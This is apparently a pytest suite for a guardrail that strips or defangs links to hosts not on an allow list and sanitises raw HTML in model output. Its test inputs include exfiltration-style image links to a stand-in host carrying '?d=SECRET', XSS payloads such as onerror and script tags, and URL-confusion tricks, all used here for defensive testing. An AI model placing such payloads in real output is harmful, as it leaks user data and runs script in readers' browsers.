"""Issue 12, item by item: what the cleaned text keeps, removes and annotates."""

from __future__ import annotations

import pytest
from rendering import problems, rendered_destinations

from analyzers.engine.config import AuditorConfig
from analyzers.engine.guardrails.settings import GuardrailSettings, settings_from_config
from analyzers.engine.guardrails.stream import audit_text
from analyzers.engine.guardrails.syntax import autolinks

HOSTS = ("acme.example", "www.acme.example", "docs.acme.example")
S = GuardrailSettings.build(allowed_hosts=HOSTS)
DEFANG = GuardrailSettings.build(allowed_hosts=HOSTS, bare_urls="defang")


def audit(text, settings=S):
    result = audit_text(text, settings)
    for _, a in result.annotations:
        assert text[a.start : a.end] == a.evidence
    return result


def codes(result):
    return [(a.type, a.severity) for _, a in result.annotations]


def test_a_bare_url_to_a_host_not_allowed_is_removed_and_annotated_with_offsets():
    text = "Details: https://evil.example/x?d=SECRET and more."
    result = audit(text)
    assert result.cleaned_response == "Details: and more."  # one space left, not two
    assert codes(result) == [("LINK_HOST_NOT_ALLOWED", "warning")]
    a = result.annotations[0][1]
    assert (a.start, a.end) == (9, 40)
    assert result.links[0].decision == "strip"


def test_defang_mode_keeps_a_readable_unclickable_url():
    result = audit("Details: https://evil.example/x?d=SECRET", DEFANG)
    assert result.cleaned_response == "Details: hxxps://evil[.]example/x?d=SECRET"
    assert codes(result) == [("LINK_HOST_NOT_ALLOWED", "warning")]
    assert rendered_destinations(result.cleaned_response) == []


def test_the_configuration_and_per_audit_options_choose_defang():
    config = AuditorConfig.model_validate(
        {"allowed_hosts": list(HOSTS), "links": {"bare_urls": "defang"}}
    )
    assert settings_from_config(config).bare_urls == "defang"
    assert settings_from_config(AuditorConfig()).bare_urls == "strip"
    per_audit = AuditorConfig().with_options({"links": {"bare_urls": "defang"}})
    assert settings_from_config(per_audit).bare_urls == "defang"


@pytest.mark.parametrize(
    "text",
    [
        "www.evil.com/p",
        "x@evil.com",
        "//evil.com/x",
        "evil.com/x?d=1",
        "http://0x7f.1/",
        "WWW.EVIL.COM",
    ],
)
def test_every_bare_form_a_linkify_renderer_links_is_judged(text):
    result = audit(f"See {text} now.")
    assert "LINK_HOST_NOT_ALLOWED" in [c for c, _ in codes(result)]
    assert rendered_destinations(result.cleaned_response) == []


def test_allowed_bare_urls_stay_and_are_recorded():
    text = "See https://www.acme.example/a and www.acme.example/b or support@acme.example."
    result = audit(text)
    assert result.cleaned_response == text
    assert [r.decision for r in result.links] == ["keep", "keep"]


def test_a_bare_domain_becomes_unlinkable_but_reads_the_same():
    result = audit("Run setup.py first.")
    assert result.cleaned_response == "Run setup\\.py first."
    assert codes(result) == [("LINK_HOST_NOT_ALLOWED", "info")]
    assert rendered_destinations(result.cleaned_response) == []


@pytest.mark.parametrize("char", ["\t", "\n", "\r"])
def test_control_characters_in_an_anchor_href_do_not_hide_it(char):
    bad = audit(f'<a href="https://evil.example/{char}path">docs</a>')
    assert "LINK_HOST_NOT_ALLOWED" in [c for c, _ in codes(bad)]
    assert rendered_destinations(bad.cleaned_response) == []
    good = audit(f'<a href="https://acme.example/{char}path">docs</a>')
    assert good.cleaned_response == "[docs](https://acme.example/path)"


def test_an_image_to_a_host_not_allowed_goes_whole_even_with_a_url_label():
    text = "![http://evil.example/p.png?d=SECRET](http://evil.example/p.png?d=SECRET) ok"
    result = audit(text)
    assert result.cleaned_response.strip() == "ok"
    assert "SECRET" not in result.cleaned_response


def test_a_stripped_link_keeps_a_label_only_when_it_is_not_url_like():
    assert audit("[the docs](https://evil.example/x)").cleaned_response == "the docs"
    assert "evil" not in audit("[www.evil.com](https://evil.example/x)").cleaned_response
    assert "evil" not in audit("[https://evil.example](https://evil.example)").cleaned_response


@pytest.mark.parametrize(
    ("markup", "severity"),
    [
        ("<script>alert(1)</script>", "critical"),
        ("<img src=x onerror=alert(1)>", "critical"),
        ("<svg onload=alert(1)>", "critical"),
        ("<iframe src=https://acme.example/></iframe>", "critical"),
        ("<form action=https://acme.example/><input></form>", "critical"),
        ("<style>body{display:none}</style>", "warning"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "critical"),
        ("<div>plain</div>", "warning"),
        ("<b onclick=alert(1)>x</b>", "critical"),
    ],
)
def test_raw_html_is_removed_or_sanitised_and_annotated(markup, severity):
    result = audit(f"Before {markup} after.")
    html_codes = [s for c, s in codes(result) if c == "HTML_UNSAFE_MARKUP"]
    assert severity in html_codes
    assert problems(result.cleaned_response, HOSTS) == []
    for word in ("script", "onerror", "onload", "iframe", "form", "style", "meta", "onclick"):
        assert word not in result.cleaned_response


def test_harmless_inline_tags_pass_rewritten_by_nh3():
    result = audit('<b>bold</b>, <em>em</em>, <abbr title="x" class=y>A</abbr><br>')
    assert result.cleaned_response == '<b>bold</b>, <em>em</em>, <abbr title="x">A</abbr><br>'


def test_code_spans_and_fences_are_left_as_they_are():
    text = "Use `<script>` and `https://evil.example/x`.\n\n```\n<img src=x onerror=alert(1)>\n```"
    result = audit(text)
    assert result.cleaned_response == text
    assert result.annotations == []


def test_a_code_span_an_html_block_would_break_protects_nothing():
    result = audit("a\n<div>\n`<img src=x onerror=alert(1)>`")
    assert problems(result.cleaned_response, HOSTS) == []
    assert "onerror" not in result.cleaned_response


def test_an_unclosed_tag_is_made_text():
    result = audit("<img src=x onerror=alert(1)")
    assert result.cleaned_response.startswith("&lt;img")


def test_removals_that_join_a_tag_are_caught():
    result = audit("<<x>script>alert(1)<</x>/script>")
    assert "<script" not in result.cleaned_response.lower()


def test_a_domain_in_the_query_of_an_allowed_bare_url_is_part_of_that_one_link():
    text = "Filter: https://docs.acme.example/?labels=alpha,foo.com now."
    assert rendered_destinations(text) == ["https://docs.acme.example/?labels=alpha,foo.com"]
    result = audit(text)
    assert result.cleaned_response == text
    assert codes(result) == []


def test_a_bare_url_whose_host_is_not_allowed_is_still_removed():
    result = audit("Filter: https://foo.com/?labels=alpha,docs.acme.example now.")
    assert result.cleaned_response == "Filter: now."
    assert codes(result) == [("LINK_HOST_NOT_ALLOWED", "warning")]


def test_what_follows_the_link_a_renderer_makes_is_judged_apart():
    text = "Go https://acme.example,evil.com or path.https://evil.com now."
    result = audit(text)
    assert problems(result.cleaned_response, HOSTS) == []
    assert "evil" not in result.cleaned_response.replace("evil\\.com", "")


@pytest.mark.parametrize(
    "text",
    [
        "https://acme.example\\@evil.example/x",
        "See https://acme.example\\@evil.example/x.",
        "<https://acme.example\\@evil.example/x>",
        "https://acme.example|@evil.example/x",
        "[docs](https://acme.example&#92;@evil.example/x)",
    ],
)
def test_a_url_whose_rendered_href_goes_to_another_host_is_removed(text):
    assert any("evil.example" in d for d in rendered_destinations(text))  # as written: acme
    result = audit(text)
    assert "evil.example" not in result.cleaned_response
    assert problems(result.cleaned_response, HOSTS) == []
    assert [c for c, _ in codes(result)] == ["LINK_HOST_NOT_ALLOWED"]
    assert "evil.example" in result.annotations[0][1].description


def test_a_bare_url_longer_than_linkify_reads_has_every_destination_in_it_judged():
    long_query = "https://docs.acme.example/?q=" + "a" * autolinks.LINKIFY_MAX
    assert audit(long_query).cleaned_response == long_query  # one allowed destination
    assert audit(long_query + ",foo.com").cleaned_response == ""
